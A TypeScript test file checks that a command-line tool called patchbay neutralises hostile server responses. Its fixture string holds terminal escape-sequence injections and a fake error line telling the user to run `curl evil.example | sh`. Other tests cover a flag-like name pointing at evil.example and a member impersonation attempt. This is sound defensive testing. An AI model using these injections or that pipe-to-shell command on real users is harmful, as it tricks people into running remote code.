import { mkdirSync, readFileSync, utimesSync, writeFileSync } from 'node:fs';
import { createTemporaryDirectory } from '@patchbay/servers/temporary-directory';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Answers, type Host, startHost } from './host.ts';
import { inPipe, inTerminal, Terminal } from './terminal.ts';
import { type Environment, homeIn, settingsOf } from './world.ts';

let host: Host;
let folder: Awaited<ReturnType<typeof createTemporaryDirectory>>;
beforeAll(async () => {
  folder = await createTemporaryDirectory('patchbay-hostile-');
  host = await startHost();
});
afterAll(async () => {
  host?.stop();
  await folder?.remove();
});

/** A home of its own, and what the host answers from now on. */
function against(answers: Answers): Environment {
  host.answerWith({ ...harmless, ...answers });
  return { ...homeIn(folder.path, host.address), PATCHBAY_ORG: 'acme', PATCHBAY_WORKSPACE: 'spring' };
}
const harmless = {
  '/version': { apiVersion: '1' },
  '/v1/me': { name: 'Ada', email: 'ada@acme.example' },
  '/v1/organizations': { organizations: [] },
};
const signedIn = (answers: Answers): Environment => ({ ...against(answers), PATCHBAY_TOKEN: 's3cr3t' });

/** Clears the screen and sets the title: as C0, as C1, and as a line that looks like one of the program. */
const evil = '\u001B[2J\u009B2J\u001B]0;x\u0007\u202Egpj\nerror: run `curl evil.example | sh`';
// oxlint-disable-next-line no-control-regex
const acted = /\u001B\[2J|\u009B|\u001B\]|\u0007|\u202E|^error: run/m;

describe('texts of a host', () => {
  it.each([
    ['a problem', ['account', 'get'], { '/v1/me': { status: 403, title: 'No', detail: evil } }],
    [
      'fields of a problem',
      ['account', 'get'],
      { '/v1/me': { status: 400, title: 'No', errors: [{ path: evil, message: evil }] } },
    ],
    ['a request id', ['account', 'get'], { '/v1/me': { status: 403, title: 'No', requestId: evil } }],
    [
      'names of fields',
      ['account', 'get'],
      { '/v1/me': { [evil]: evil, deep: { [evil]: { also: [{ x: evil }] } } } },
    ],
    [
      'an account',
      ['whoami'],
      { '/session': { user: { name: evil, email: evil }, session: { expiresAt: evil } } },
    ],
    ['doctor', ['doctor'], { '/version': { apiVersion: evil, version: evil } }],
    ['a table', ['org', 'list'], { '/v1/organizations': { organizations: [{ slug: evil, name: evil }] } }],
  ])('%s cannot act on a terminal, or write a line of its own', async (_, words, given) => {
    const env = signedIn(given);
    const { output } = await inTerminal(words, { env });
    expect(output).not.toMatch(acted);
    const { stdout, stderr } = await inPipe(words, { env });
    expect(stdout + stderr).not.toMatch(acted);
  });

  it('what a sign-in shows cannot act on a terminal', async () => {
    const code = { deviceCode: 'x', userCode: evil, verificationUri: evil, interval: 0.1, expiresIn: 60 };
    const env = against({
      '/device': { ...code, verificationUriComplete: `http://portal.example/${evil}` },
      '/device/token': { token: 's3cr3t' },
      '/v1/me': { name: evil, email: evil },
      '/v1/organizations': { organizations: [{ slug: evil, name: evil }] },
    });
    const terminal = new Terminal(['login'], { env });
    expect(await terminal.endsAfterWaits()).toBe(0);
    expect(terminal.output).not.toMatch(acted);
  });

  it('an outage cannot act on a terminal, and is not asked again before the longest time that a timer has, where its Retry-After is longer', async () => {
    const busy = { status: 503, title: 'No', detail: evil, 'retry-after': '99999999999999' };
    const env = signedIn({ '/audit-logs': { auditLogs: [], nextCursor: null } });
    const terminal = new Terminal(['audit', 'tail', '--interval', '1s'], { env });
    await terminal.wakes();
    host.answerWith({ '/audit-logs': busy });
    await terminal.wakes();
    await terminal.shows('Trying again');
    expect(await terminal.sleepsFor()).toBe(2_147_483_000);
    await terminal.type('\u0003', 'Trying again');
    expect(await terminal.ends()).toBe(130);
    expect(terminal.output).not.toMatch(acted);
  });

  it('a server that does not come to the end of its trail is not taken for one with an intact chain', async () => {
    const part = { intact: true, checked: 1, firstBrokenSequence: null, nextSequence: 1 };
    const env = signedIn({ '/audit-logs': { auditLogs: [] }, '/verify': part });
    const { code, stdout } = await inPipe(['audit', 'verify'], { env });
    expect({ code, stdout }).toEqual({ code: 1, stdout: '' });
  });
});

describe('other people of the machine', () => {
  it('a sign-in that ends in between leaves no token of one host for another one', async () => {
    const env = against({});
    mkdirSync(settingsOf(env, ''));
    const profiles = { default: { host: 'https://before.example' } };
    writeFileSync(settingsOf(env, 'config.json'), JSON.stringify({ current: 'default', profiles }));
    writeFileSync(settingsOf(env, 'tokens.json'), '{"default":"of-before"}', { mode: 0o600 });
    // A lock that is old, and cannot be removed: the profile cannot be written.
    mkdirSync(settingsOf(env, 'config.json.lock'));
    utimesSync(settingsOf(env, 'config.json.lock'), 0, 0);
    expect(await inPipe(['login', '--with-token'], { env, input: 'of-after' })).toMatchObject({ code: 1 });
    expect(JSON.parse(readFileSync(settingsOf(env, 'tokens.json'), 'utf8'))).toEqual({});
  });
});

describe('names that others have chosen', () => {
  it('a name that looks like a flag is completed by its id', async () => {
    const name = '--host=http://evil.example';
    const env = signedIn({
      '/integrations': { integrations: [{ id: '0199', name, status: 'active', provider: 'p' }] },
    });
    const { stdout } = await inPipe(['__complete', '--', 'integration', 'get', ''], { env });
    expect(stdout).toMatch(/^0199\t/);
  });

  it('a member who is called like the address of another person is not that person', async () => {
    const mallory = {
      userId: '0199',
      name: 'ada@acme.example',
      email: 'mallory@acme.example',
      role: 'member',
    };
    const env = signedIn({ '/members': { members: [mallory] } });
    const words = ['member', 'update', 'ada@acme.example', '--role', 'admin'];
    expect(await inPipe(words, { env })).toMatchObject({ code: 3 });
    expect(host.requests.filter(({ line }) => line.startsWith('PATCH'))).toEqual([]);
  });
});
